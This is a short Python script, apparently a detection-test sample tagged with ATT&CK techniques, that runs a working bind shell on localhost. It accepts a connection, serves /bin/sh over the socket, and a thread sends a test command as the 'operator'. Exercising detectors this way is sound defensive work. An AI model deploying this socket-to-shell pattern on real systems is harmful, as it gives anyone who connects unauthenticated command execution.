# technique: T1059.004 T1095
"""Bind shell: listen on a port, accept, serve a shell to whoever connects (T1059.004, T1095).

The script listens on 127.0.0.1 (port 0, the kernel picks one), and for the
first connection starts /bin/sh with the accepted socket on its standard
streams. A thread plays the remote operator: connects, types a command
and "exit". The roles are reversed from a reverse shell: the shell's
socket came from accept(), not connect().

A good detector raises a critical alert: a shell is started with an
accepted (inbound) socket as its standard input and output.
"""
import os
import socket
import subprocess
import threading

server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", 0))
server.listen(1)
server.settimeout(4)
port = server.getsockname()[1]
transcript = []


def remote_operator():
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(b"echo bound-shell-uid-$(id -u)\nexit\n")
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)


threading.Thread(target=remote_operator, daemon=True).start()
client, _ = server.accept()
fd = client.fileno()
subprocess.call(["/bin/sh"], stdin=fd, stdout=fd, stderr=fd, timeout=5)
client.close()
server.close()
print("operator transcript:", transcript)
